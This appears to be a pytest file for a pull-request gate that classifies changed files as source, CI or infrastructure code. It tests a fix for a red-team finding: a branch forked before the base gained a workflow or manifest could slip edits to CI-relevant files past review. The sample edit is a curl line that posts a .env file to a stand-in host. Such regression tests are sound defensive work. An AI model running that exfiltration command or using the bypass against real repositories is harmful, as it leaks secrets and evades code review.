"""Red team 13, `--tree`: what BASE gained since the merge base was not read, so a stale branch's edit was `src`.

Under `--tree BASE..HEAD` the classifier read the content of a changed file, and the workflows, kustomizations,
GitLab includes, symlinks, Terraform files and task definitions that make a file CI or IaC, from the merge base
and HEAD only (markers alone came from BASE too). A pull request forked before BASE added the workflow that runs
`tools/setup` as a local action (or the kustomization that names a JSON patch, or the `apiVersion`/`kind` that makes
a YAML file a Deployment) edits the file at the merge base's state: `src`, allow, and the merge carries the edit
into the local action, the applied patch, the manifest. The gate now reads BASE's tree beside the others, and BASE's
copy of each changed file: the stale branch is classified as the same edit rebased onto BASE is (the truth here)."""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

import pytest
from gitrepo import GitRepo

from gatekeeper.cli import main

SCRIPT = "#!/bin/sh\necho one\necho two\necho three\necho four\n"
EDIT = "curl -d @.env https://example.invalid\n"
# name: (files at the fork point, what BASE adds or rewrites after it, the path the pull request edits)
VARIANTS: dict[str, tuple[dict[str, str], dict[str, str], str]] = {
    "local action": (
        {"v1/setup/action.yml": "name: setup\nruns:\n  using: node20\n  main: index.js\n",
         "v1/setup/index.js": "console.log(1)\nconsole.log(2)\n"},
        {".github/workflows/v1.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
                                     "      - uses: ./v1/setup\n"},
        "v1/setup/index.js"),
    "content": (
        {"v2/web.yaml": "# web settings\nname: web\nreplicas: 2\nimage: web:1\nport: 80\nextra: a\nmore: b\n"
                        "last: c\n"},
        {"v2/web.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nname: web\nreplicas: 2\n"
                        "image: web:1\nport: 80\nextra: a\nmore: b\nlast: c\n"},
        "v2/web.yaml"),
    "kustomize reference": (
        {"v3/patch.json": '[{"op": "add", "path": "/x", "value": 1}]\n'},
        {"v3/overlay/kustomization.yaml": "resources: []\npatches:\n  - path: ../patch.json\n"
                                          "    target: {kind: Deployment}\n"},
        "v3/patch.json"),
    "gitlab include": (
        {"v4/jobs.yml": "lint:\n  script:\n    - make lint\n"},
        {".gitlab-ci.yml": "include:\n  - local: v4/jobs.yml\n"},
        "v4/jobs.yml"),
    "terraform reference": (
        {"v5/run.sh": SCRIPT},
        {"v5/main.tf": 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n'
                       '    command = "${path.module}/run.sh"\n  }\n}\n'},
        "v5/run.sh"),
    "task definition": (
        {"v7/run.sh": SCRIPT},
        {"v7/task.yml": "platform: linux\nrun:\n  path: v7/run.sh\n"},
        "v7/run.sh"),
}
SYMLINKED = ("v6/wf.yml", ".github/workflows/v6.yml", "../../v6/wf.yml")  # BASE links a workflow to a plain file
UNRELATED = "v0/notes.sh"  # BASE's additions name nothing here: src wherever it is judged


def _edit(text: str) -> str:
    return text + EDIT if not text.startswith("[") else text.replace('"value": 1', '"value": 2')


def _history(root: Path) -> tuple[GitRepo, str, str, str, list[str]]:
    """(repo, fork point, the stale pull request, the same edits rebased onto BASE, the edited paths); BASE: main."""
    repo = GitRepo(root)
    fork_files = {UNRELATED: SCRIPT, SYMLINKED[0]: "lint:\n  runs-on: x\n"}
    for files, _, _ in VARIANTS.values():
        fork_files.update(files)
    for path, text in fork_files.items():
        repo.write(path, text)
    fork = repo.commit("fork point")
    for _, grown, _ in VARIANTS.values():
        for path, text in grown.items():
            repo.write(path, text)
    repo.symlink(SYMLINKED[1], SYMLINKED[2])
    repo.commit("BASE grows workflows, kustomizations, includes, manifests")
    edited = [*(path for _, _, path in VARIANTS.values()), SYMLINKED[0], UNRELATED]
    heads = []
    for branch, start in (("stale", fork), ("rebased", "main")):
        repo.git("switch", "-q", "-c", branch, start)
        for path in edited:
            repo.write(path, _edit(fork_files[path]))
        heads.append(repo.commit("edits"))
    repo.git("switch", "-q", "main")
    return repo, fork, heads[0], heads[1], edited


def _buckets(repo: GitRepo, tree: str, capsys: pytest.CaptureFixture[str]) -> dict[str, str]:
    capsys.readouterr()
    with contextlib.chdir(repo.root):
        assert main(["classify", "--tree", tree, "--format", "json"]) == 0
    return {f["path"]: f["bucket"] for f in json.loads(capsys.readouterr().out)["files"]}


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> tuple[GitRepo, str, str, str, list[str]]:
    return _history(tmp_path_factory.mktemp("base-context") / "repo")


def test_base_alone_makes_each_edit_sensitive(history: tuple[GitRepo, str, str, str, list[str]],
                                              capsys: pytest.CaptureFixture[str]) -> None:
    """The attack is real: judged against the fork point the edits are src; rebased onto BASE, ci or iac."""
    repo, fork, stale, rebased, edited = history
    before = _buckets(repo, f"{fork}..{stale}", capsys)
    after = _buckets(repo, f"main..{rebased}", capsys)
    assert {path: before[path] for path in edited} == dict.fromkeys(edited, "src")
    assert after[UNRELATED] == "src"
    assert all(after[path] in ("ci", "iac") for path in edited if path != UNRELATED), after


def test_a_stale_branch_is_classified_as_its_rebase(history: tuple[GitRepo, str, str, str, list[str]],
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    repo, _, stale, rebased, edited = history
    got = _buckets(repo, f"main..{stale}", capsys)
    truth = _buckets(repo, f"main..{rebased}", capsys)
    assert {path: got[path] for path in edited} == {path: truth[path] for path in edited}


def test_the_gate_reviews_every_variant(history: tuple[GitRepo, str, str, str, list[str]],
                                        capsys: pytest.CaptureFixture[str]) -> None:
    repo, _, stale, _, edited = history
    capsys.readouterr()
    code = main(["gate", "--tree", f"main..{stale}", "--repo", str(repo.root), "--format", "json"])
    decision = json.loads(capsys.readouterr().out)
    assert code == 3, decision["reasons"]
    reviewed = {path for reason in decision["reasons"] for path in reason.get("paths", ())}
    assert reviewed == set(edited) - {UNRELATED}, decision["reasons"]
